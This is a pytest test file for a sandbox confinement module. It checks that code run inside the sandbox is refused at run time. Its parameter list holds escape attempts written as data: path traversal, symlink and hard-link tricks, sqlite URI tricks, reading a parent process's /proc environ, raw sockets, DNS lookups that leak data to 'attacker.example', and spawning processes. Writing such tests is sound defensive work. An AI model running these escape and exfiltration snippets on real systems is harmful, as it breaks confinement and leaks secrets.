"""The sandbox's process, shut in: what it tries to reach is refused at run time, whatever its code says."""

import subprocess
import sys
from pathlib import Path

import pytest

from portal.shared.environment import ROOT

SHUT_IN = """
from pathlib import Path
from portal.sandbox.confinement import confine
data = Path({data!r})
confine(data=data, folder=data / "sandbox", database_url={url!r})
{code}
print("done")
"""


def attempt(folder: Path, code: str, url: str = "sqlite:///x.db") -> subprocess.CompletedProcess[str]:
    data = folder / "data"
    data.mkdir()
    for side in ("people", "sandbox"):
        (data / side).mkdir(exist_ok=True)
        (data / side / "file").write_text(side)
    return subprocess.run(
        [sys.executable, "-P", "-c", SHUT_IN.format(data=str(data), url=url, code=code)],
        env={"PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.mark.parametrize(
    "code",
    [
        "import portal.people.app",
        "import importlib; importlib.import_module('portal.' + 'people')",
        "__import__('portal.separation.check')",
        "import smtplib",
        "import boto3",
        "open(data / 'people' / 'file')",
        "(data / 'people' / 'file').read_text()",
        "open(str(data / 'sandbox' / '..' / 'people' / 'file'))",
        "import os; os.symlink(data / 'people', data / 'sandbox' / 'door'); open(data / 'sandbox' / 'door' / 'file')",
        "import os; os.listdir(data / 'people')",
        "import os; os.rename(data / 'people' / 'file', data / 'sandbox' / 'mine')",
        "import os; os.link(data / 'people' / 'file', data / 'sandbox' / 'mine')",
        "import sqlite3; sqlite3.connect(data / 'people' / 'people.db')",
        "import sqlite3; sqlite3.connect(f'file:{data}/people/people.db?mode=ro', uri=True)",
        "import sqlite3; sqlite3.connect('file:' + str(data).replace('-', '%2D') + '/people/file?mode=ro', uri=True)",
        "import sqlite3; sqlite3.connect(f'file://localhost{data}/people/file?mode=ro', uri=True)",
        "import os; os.open('people/file', os.O_RDONLY, dir_fd=os.open(data, os.O_RDONLY))",
        "import os; os.open('data/people/file', os.O_RDONLY, dir_fd=os.open(data.parent, os.O_RDONLY))",
        "import os; open(f'/proc/{os.getppid()}/environ')",
        "import portal; open(portal.__path__[0] + '/people/settings.py')",
        "import ctypes; ctypes.CDLL(None)",
        "import socket; socket.create_connection(('127.0.0.1', 9), timeout=1)",
        "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
        "import socket; socket.getaddrinfo('secret-words.attacker.example', 80)",
        "import socket; socket.gethostbyname('secret-words.attacker.example')",
        "import subprocess; subprocess.run(['true'])",
        "import os; os.system('true')",
        "import os; os.fork()",
    ],
)
def test_what_leads_across_the_wall_is_refused(tmp_path: Path, code: str) -> None:
    done = attempt(tmp_path, code)
    assert "done" not in done.stdout
    assert "OutOfBounds" in done.stderr or "The sandbox cannot import" in done.stderr, done.stderr


def test_its_own_folder_and_the_project_stay_open(tmp_path: Path) -> None:
    code = "import sqlite3, json, portal.sandbox.app; sqlite3.connect(data / 'sandbox' / 'own.db').execute('select 1')"
    done = attempt(tmp_path, code + "; assert (data / 'sandbox' / 'file').read_text() == 'sandbox'")
    assert done.stdout.strip() == "done", done.stderr


def test_it_can_tell_its_own_memory_and_open_files(tmp_path: Path) -> None:
    code = (
        "from prometheus_client import CollectorRegistry, ProcessCollector, generate_latest; registry = "
        "CollectorRegistry(); ProcessCollector(registry=registry); text = generate_latest(registry); "
        "assert b'process_open_fds ' in text and b'process_resident_memory_bytes ' in text, text"
    )
    done = attempt(tmp_path, code)
    assert done.stdout.strip() == "done", done.stderr


def test_with_a_database_server_of_its_own_it_may_connect(tmp_path: Path) -> None:
    code = (
        "import socket\ntry: socket.create_connection(('127.0.0.1', 9), timeout=1)\nexcept ConnectionRefusedError: pass"
    )
    assert attempt(tmp_path, code, url="postgresql+psycopg://localhost/sandbox").stdout.strip() == "done"
